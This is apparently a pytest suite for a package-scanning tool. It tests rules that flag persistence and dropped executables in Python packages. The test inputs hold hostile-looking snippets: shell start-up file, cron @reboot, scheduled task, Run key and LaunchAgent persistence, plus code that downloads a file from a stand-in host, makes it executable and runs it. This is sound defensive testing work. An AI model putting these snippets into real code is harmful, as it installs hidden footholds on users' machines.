"""Persistence (autostart, cron, shell start-up files) and dropped executables."""

from __future__ import annotations

import pytest

from stockade.analysis.model import Kind, Phase
from tests.analysis.python.helpers import hits, rules, scan_code, threats

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL


@pytest.mark.parametrize(
    ("statement", "what"),
    [
        ('open(os.path.expanduser("~/.bashrc"), "a").write(LINE)', "shell start-up file"),
        ('open(os.path.expanduser("~/.zshrc"), mode="a").write(LINE)', "shell start-up file"),
        (
            'shutil.copy(sys.argv[0], os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", '
            '"Start Menu", "Programs", "Startup", "u.pyw"))',
            "Startup folder",
        ),
        (
            'pathlib.Path.home().joinpath("Library/LaunchAgents/com.apple.update.plist")'
            ".write_text(LINE)",
            "LaunchAgent",
        ),
        (
            'open(os.path.expanduser("~/.config/systemd/user/update.service"), "w").write(LINE)',
            "systemd user unit",
        ),
        (
            'open(os.path.expanduser("~/.config/autostart/update.desktop"), "w").write(LINE)',
            "XDG autostart",
        ),
        ("os.system(\"(crontab -l; echo '@reboot /dev/shm/.u') | crontab -\")", "cron job"),
        ('os.system("schtasks /create /sc onlogon /tn Update /tr C:\\\\u.exe")', "scheduled task"),
    ],
)
def test_persistence_at_install_time_is_a_threat(statement: str, what: str) -> None:
    findings = scan_code(
        f"""
        import os, pathlib, shutil, sys
        LINE = "python3 -m update &"
        {statement}
        """,
        INSTALL,
    )
    assert hits(findings, "py-persistence-autorun") == [(3, INSTALL)]
    assert what in next(f.message for f in findings if f.rule == "py-persistence-autorun")


def test_run_key_written_through_winreg() -> None:
    findings = scan_code(
        """
        import sys, winreg
        RUN = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
        winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
        """,
        IMPORT,
    )
    assert hits(findings, "py-persistence-autorun") == [(4, IMPORT)]
    assert "Run registry key" in findings[0].message


def test_persistence_in_a_tool_run_on_request_is_a_capability() -> None:
    findings = scan_code(
        """
        import os

        def add_to_path(folder):
            with open(os.path.expanduser("~/.bashrc"), "a") as rc:
                rc.write(f'export PATH="{folder}:$PATH"\\n')
        """
    )
    assert hits(findings, "py-persistence") == [(4, RUNTIME)]
    assert threats(findings) == []


def test_reading_a_shell_rc_file_is_quiet() -> None:
    findings = scan_code(
        """
        import os
        with open(os.path.expanduser("~/.bashrc")) as rc:
            aliases = rc.read()
        """,
        INSTALL,
    )
    assert findings == []


def test_download_write_chmod_and_run_is_a_dropper() -> None:
    findings = scan_code(
        """
        import os, stat, subprocess, tempfile, urllib.request

        def install_agent():
            target = os.path.join(tempfile.gettempdir(), "agent")
            data = urllib.request.urlopen("https://files.pypi.test/agent").read()
            with open(target, "wb") as out:
                out.write(data)
            os.chmod(target, 0o755)
            subprocess.Popen([target])
        """
    )
    assert hits(findings, "py-drop-executable") == [(8, RUNTIME), (9, RUNTIME)]


def test_urlretrieve_then_startfile() -> None:
    findings = scan_code(
        """
        import os, urllib.request
        path = os.path.join(os.getenv("TEMP"), "setup.exe")
        urllib.request.urlretrieve("https://files.pypi.test/setup.exe", path)
        os.startfile(path)
        """,
        IMPORT,
    )
    assert hits(findings, "py-drop-executable") == [(4, IMPORT)]


def test_decoded_payload_made_executable() -> None:
    findings = scan_code(
        """
        import base64, os, stat
        from pathlib import Path
        p = Path("/dev/shm/.helper")
        p.write_bytes(base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA"))
        p.chmod(p.stat().st_mode | stat.S_IXUSR)
        """
    )
    assert hits(findings, "py-drop-executable") == [(5, RUNTIME)]


def test_write_and_run_a_program_at_install_time() -> None:
    findings = scan_code(
        """
        import subprocess
        with open("/dev/shm/run.sh", "w") as handle:
            handle.write("#!/bin/sh\\necho hi\\n")
        subprocess.call(["/dev/shm/run.sh"])
        """,
        INSTALL,
    )
    assert hits(findings, "py-drop-executable") == [(4, INSTALL)]


def test_compiler_check_on_a_temporary_file_is_not_a_dropper() -> None:
    findings = scan_code(
        """
        import os, subprocess, tempfile
        src = os.path.join(tempfile.mkdtemp(), "check.c")
        with open(src, "w") as handle:
            handle.write("int main(void) { return 0; }")
        subprocess.call(["cc", "-c", src])
        """,
        INSTALL,
    )
    assert "py-drop-executable" not in rules(findings)
    assert [f.kind for f in findings] == [Kind.CAPABILITY]


def test_generated_script_made_executable_in_a_build_helper_is_quiet() -> None:
    findings = scan_code(
        """
        import os

        def write_launcher(path, python):
            with open(path, "w") as handle:
                handle.write(f"#!{python}\\nimport app; app.main()\\n")
            os.chmod(path, 0o755)
        """
    )
    assert findings == []
